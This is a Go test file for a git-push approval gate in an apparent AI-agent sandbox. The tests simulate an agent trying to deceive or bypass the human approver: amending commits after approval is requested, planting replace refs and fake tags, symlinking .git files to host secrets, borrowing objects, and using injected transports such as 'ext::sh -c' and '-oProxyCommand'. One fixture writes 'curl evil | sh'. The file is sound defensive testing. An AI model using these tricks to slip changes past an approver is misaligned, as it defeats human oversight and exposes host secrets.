package gate

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/cordonhq/cordon/contract"
)

func gateTo(url string, spec string) contract.Gate {
	return contract.Gate{Name: "push", Run: []string{"git", "push", url, spec}, Approve: contract.ApproveHuman, Why: "t",
		Timeout:    contract.Duration(time.Minute),
		Credential: &contract.Credential{Name: "GITHUB_PUSH", Provider: "local", Deliver: contract.DeliverGate}}
}

// TestPushPinnedRefusesMovedRefs: the agent amends HEAD while the request waits; the
// approval pushes nothing, because what was shown is not what would be pushed.
func TestPushPinnedRefusesMovedRefs(t *testing.T) {
	f := newFixture(t)
	rec, m := &recorder{}, &minter{}
	s := newService(f, rec, m, Ask, contract.ApproveHuman)
	defer s.Close()
	ch := asyncRequest(context.Background(), s)
	p := waitPending(t, s)
	writeScript(t, filepath.Join(f.ws, "install.sh"), "curl evil | sh")
	runGit(t, f.ws, "add", "install.sh")
	runGit(t, f.ws, "commit", "-q", "--amend", "-m", "agent work")
	if err := s.Approve(context.Background(), p.ID, "alice"); err != nil {
		t.Fatal(err)
	}
	r := <-ch
	if r.out.ExitCode != exitCannotRun || !strings.Contains(r.out.Output, "changed since the request") {
		t.Fatalf("outcome = %+v", r.out)
	}
	if f.branch(t) != "" || m.minted.Load() != 0 || len(f.srv.Passwords()) != 0 {
		t.Error("a moved repository was pushed, or a credential minted")
	}
}

// TestPushRefusesTransports: only https and ssh (and http to loopback) are pushed to;
// a local path, file://, ext::, git:// or plain http elsewhere is refused when asked,
// before anyone approves, whether the contract names it or the repository's remote does.
func TestPushRefusesTransports(t *testing.T) {
	f := newFixture(t)
	local := filepath.Join(t.TempDir(), "local.git")
	runGit(t, f.ws, "init", "-q", "--bare", local)
	runGit(t, f.ws, "remote", "add", "origin", local)
	runGit(t, f.ws, "remote", "add", "helper", "ext::sh -c touch% "+f.marks+"/ext")
	for url, why := range map[string]string{
		local:                          "local path",
		"file://" + local:              "file transport",
		"ext::sh -c touch% /tmp/x":     "transport helper",
		"git://example.com/r.git":      "git transport",
		"http://example.com/r.git":     "plain http",
		"https://u:pw@example.com/r":   "carries a password",
		"origin":                       "local path",
		"helper":                       "transport helper",
		"nosuch":                       "no remote",
		"./relative":                   "local path",
		"-oProxyCommand=x:y":           "refused",
		"https://example.com/r.git -f": "refused",
	} {
		s := New(Config{RunID: testRun, Workspace: f.ws, Gates: []contract.Gate{gateTo(url, "HEAD:refs/heads/x")}, Mint: (&minter{}).mint})
		out, err := s.Request(context.Background(), "push", "")
		s.Close()
		if err != nil || out.Approved || !strings.Contains(out.Why, why) {
			t.Errorf("%s: got %+v, %v; want refused (%s)", url, out, err, why)
		}
	}
	if f.marker("ext") {
		t.Error("the ext:: remote ran")
	}
}

func TestParsePush(t *testing.T) {
	for _, tc := range []struct {
		argv []string
		want string // "" for not a push; "error: …" for a refusal
	}{
		{[]string{"make", "release"}, ""},
		{[]string{"git", "fetch"}, ""},
		{[]string{"git", "-C", "/x", "push", "u", "a"}, "error: git options before"},
		{[]string{"git", "push", "u"}, "error: needs a remote and at least one refspec"},
		{[]string{"git", "push", "--receive-pack=x", "u", "a"}, "error: --receive-pack=x is refused"},
		{[]string{"git", "push", "--mirror", "u"}, "error: --mirror is refused"},
		{[]string{"git", "push", "u", "refs/heads/*:refs/heads/*"}, "error: refspec"},
		{[]string{"git", "push", "-f", "u", "+HEAD:main", ":old"}, "u [-f] +HEAD:main :old"},
	} {
		p, err := parsePush(tc.argv)
		got := ""
		switch {
		case err != nil:
			got = "error: " + err.Error()
		case p != nil:
			got = fmt.Sprintf("%s %v", p.remote, p.flags)
			for _, r := range p.refs {
				got += " " + map[bool]string{true: "+"}[r.Force] + r.Src + ":" + r.Dst
			}
		}
		if !strings.Contains(got, strings.TrimPrefix(tc.want, "error: ")) || strings.HasPrefix(tc.want, "error: ") != strings.HasPrefix(got, "error: ") || (tc.want == "" && got != "") {
			t.Errorf("%q: got %q, want %q", tc.argv, got, tc.want)
		}
	}
}

// TestPushListsEveryCommit: the preview lists every commit the push publishes,
// against what the remote itself lists: a remote-tracking ref or tag the sandbox wrote
// (in this run or an earlier one) hides nothing, and a replace ref changes nothing the
// approver sees.
func TestPushListsEveryCommit(t *testing.T) {
	f := newFixture(t)
	runGit(t, f.ws, "push", "-q", f.bare, "HEAD:refs/heads/main") // what the remote has
	for i := 0; i < 30; i++ {
		runGit(t, f.ws, "commit", "-q", "--allow-empty", "-m", fmt.Sprintf("agent commit %d", i))
	}
	runGit(t, f.ws, "update-ref", "refs/remotes/origin/main", "HEAD") // the agent's fakes
	runGit(t, f.ws, "tag", "v9")
	// A harmless-looking commit replacing the real tip in the workspace's own git.
	tip := runGit(t, f.ws, "rev-parse", "HEAD")
	runGit(t, f.ws, "checkout", "-q", "--detach", f.head)
	runGit(t, f.ws, "commit", "-q", "--allow-empty", "-m", "fix a typo")
	runGit(t, f.ws, "replace", tip, runGit(t, f.ws, "rev-parse", "HEAD"))
	runGit(t, f.ws, "checkout", "-q", "-")
	if err := os.WriteFile(filepath.Join(f.ws, ".git", "shallow"), []byte(tip+"\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	s := newService(f, &recorder{}, &minter{}, Ask, contract.ApproveHuman)
	defer s.Close()
	ch := asyncRequest(context.Background(), s)
	p := waitPending(t, s)
	assertHas(t, "preview", p.Preview, "commits the push would publish (30, every one")
	for i := 0; i < 30; i++ {
		assertHas(t, "preview", p.Preview, fmt.Sprintf("agent commit %d\n", i))
	}
	if strings.Contains(p.Preview, "fix a typo") {
		t.Errorf("the preview honours the workspace's replace refs:\n%s", p.Preview)
	}
	if err := s.Deny(p.ID, "bob", "no"); err != nil {
		t.Fatal(err)
	}
	<-ch
}

// TestPushReadsNoLinkOut: a link the sandbox plants in a writable .git (packed-refs to
// a host file) is refused, and nothing of the file it names reaches the requester.
func TestPushReadsNoLinkOut(t *testing.T) {
	f := newFixture(t)
	secret := filepath.Join(t.TempDir(), "secret")
	if err := os.WriteFile(secret, []byte("TOPSECRET-line\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	runGit(t, f.ws, "pack-refs", "--all")
	for _, name := range []string{"packed-refs", "HEAD"} {
		p := filepath.Join(f.ws, ".git", name)
		saved, _ := os.ReadFile(p)
		os.Remove(p)
		if err := os.Symlink(secret, p); err != nil {
			t.Fatal(err)
		}
		s := newService(f, &recorder{}, &minter{}, Ask, contract.ApproveHuman)
		out, err := s.Request(context.Background(), "push", "")
		s.Close()
		if err != nil || out.Approved || !strings.Contains(out.Why, "cannot be read") || strings.Contains(out.Why, "TOPSECRET") {
			t.Errorf("%s linked out: %+v, %v", name, out, err)
		}
		os.Remove(p)
		if err := os.WriteFile(p, saved, 0o644); err != nil {
			t.Fatal(err)
		}
	}
}

// TestPushRefusesBorrowedObjects: objects lent by another repository (alternates, a
// link among the packs) would let a push publish what the sandbox never could read:
// refused when asked, and when the packs changed between the request and the approval
// (possible only where .git is widened: the sandbox cannot write objects/pack).
func TestPushRefusesBorrowedObjects(t *testing.T) {
	f := newFixture(t)
	alt := filepath.Join(f.ws, ".git", "objects", "info", "alternates")
	writeScript(t, alt, "")
	s := newService(f, &recorder{}, &minter{}, Ask, contract.ApproveHuman)
	out, err := s.Request(context.Background(), "push", "")
	s.Close()
	if err != nil || out.Approved || !strings.Contains(out.Why, "lend another repository's objects") {
		t.Fatalf("alternates: %+v, %v", out, err)
	}
	os.Remove(alt)
	s = newService(f, &recorder{}, &minter{}, Ask, contract.ApproveHuman)
	defer s.Close()
	ch := asyncRequest(context.Background(), s)
	p := waitPending(t, s)
	if err := os.Symlink("/etc/passwd", filepath.Join(f.ws, ".git", "objects", "pack", "pack-0.pack")); err != nil {
		t.Fatal(err)
	}
	if err := s.Approve(context.Background(), p.ID, "alice"); err != nil {
		t.Fatal(err)
	}
	if r := <-ch; r.out.ExitCode != exitCannotRun || !strings.Contains(r.out.Output, "objects/pack changed") {
		t.Fatalf("outcome = %+v", r.out)
	}
	if f.branch(t) != "" {
		t.Error("pushed")
	}
}

// TestPushSendsThePinnedObjects: an object the sandbox removes before asking and puts
// back before the approval fails the request: what is shown is what is pushed.
func TestPushSendsThePinnedObjects(t *testing.T) {
	f := newFixture(t)
	if err := os.WriteFile(filepath.Join(f.ws, "leaked.txt"), []byte("secret\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	runGit(t, f.ws, "add", "leaked.txt")
	runGit(t, f.ws, "commit", "-q", "-m", "docs: typo")
	tree := runGit(t, f.ws, "rev-parse", "HEAD^{tree}")
	obj := filepath.Join(f.ws, ".git", "objects", tree[:2], tree[2:])
	hidden := obj + ".away"
	if err := os.Rename(obj, hidden); err != nil {
		t.Fatal(err)
	}
	s := newService(f, &recorder{}, &minter{}, Ask, contract.ApproveHuman)
	out, err := s.Request(context.Background(), "push", "")
	s.Close()
	if err != nil || out.Approved || !strings.Contains(out.Why, "lacks objects") {
		t.Fatalf("a push missing a tree: %+v, %v", out, err)
	}
}

// TestPreviewRunsNoRepositoryProgram: no git runs in the workspace for a request: a
// filter or textconv the repository names, or one in a nested repository the index
// points at as a submodule, never runs on the host.
func TestPreviewRunsNoRepositoryProgram(t *testing.T) {
	f := newFixture(t)
	prog := filepath.Join(t.TempDir(), "prog")
	writeScript(t, prog, "touch "+f.marks+"/ran; cat")
	sub := filepath.Join(f.ws, "sub")
	if err := os.MkdirAll(sub, 0o755); err != nil {
		t.Fatal(err)
	}
	runGit(t, sub, "init", "-q")
	for _, dir := range []string{f.ws, sub} {
		runGit(t, dir, "config", "diff.evil.textconv", prog)
		runGit(t, dir, "config", "filter.evil.clean", prog)
		if err := os.WriteFile(filepath.Join(dir, ".gitattributes"), []byte("* diff=evil filter=evil\n"), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	runGit(t, sub, "add", ".gitattributes")
	runGit(t, sub, "commit", "-q", "-m", "s")
	runGit(t, f.ws, "update-index", "--add", "--cacheinfo", "160000,"+runGit(t, sub, "rev-parse", "HEAD")+",sub")
	runGit(t, f.ws, "add", ".gitattributes")
	runGit(t, f.ws, "commit", "-q", "-m", "attributes")
	os.Remove(filepath.Join(f.marks, "ran")) // the setup's own commits ran it
	future := time.Now().Add(time.Hour)
	for _, p := range []string{filepath.Join(f.ws, "README"), filepath.Join(sub, ".gitattributes")} {
		if err := os.Chtimes(p, future, future); err != nil {
			t.Fatal(err)
		}
	}
	s := newService(f, &recorder{}, &minter{}, Ask, contract.ApproveHuman)
	defer s.Close()
	ch := asyncRequest(context.Background(), s)
	p := waitPending(t, s)
	assertHas(t, "preview", p.Preview, "commits the push would publish (2, every one")
	if err := s.Approve(context.Background(), p.ID, "alice"); err != nil {
		t.Fatal(err)
	}
	if r := <-ch; r.out.ExitCode != 0 {
		t.Fatalf("push: %+v", r.out)
	}
	if f.marker("ran") {
		t.Fatal("a program the repository's configuration names ran on the host")
	}
}

// TestPushAmbiguousSource: a short name that names a branch and a tag is refused, as git
// refuses it, rather than resolved one way for the approver.
func TestPushAmbiguousSource(t *testing.T) {
	f := newFixture(t)
	runGit(t, f.ws, "branch", "work")
	runGit(t, f.ws, "tag", "work")
	s := New(Config{RunID: testRun, Workspace: f.ws, Gates: []contract.Gate{gateTo(f.url, "work:refs/heads/work")}, Mint: (&minter{}).mint})
	defer s.Close()
	out, err := s.Request(context.Background(), "push", "")
	if err != nil || out.Approved || !strings.Contains(out.Why, "more than one ref") {
		t.Fatalf("got %+v, %v", out, err)
	}
}
